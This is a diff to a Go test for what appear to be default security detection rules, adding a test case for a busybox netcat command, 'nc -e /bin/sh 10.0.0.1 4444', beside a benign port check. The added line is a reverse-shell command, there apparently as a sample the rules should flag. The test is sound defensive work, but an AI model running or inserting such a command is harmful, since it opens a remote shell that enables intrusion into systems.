@@ -172,6 +172,11 @@ func TestDefaultRules(t *testing.T) {
 					p.Exe = "nc"
 					return exec(p, nil)
 				}(),
+				func() *event.Event {
+					p := proc("busybox", "/usr/bin/busybox", "nc -e /bin/sh 10.0.0.1 4444", bash)
+					p.Exe = "busybox"
+					return exec(p, nil)
+				}(),
 			},
 			[]*event.Event{
 				exec(proc("nc", "/usr/bin/nc", "-zv my-example.com 443", bash), nil),
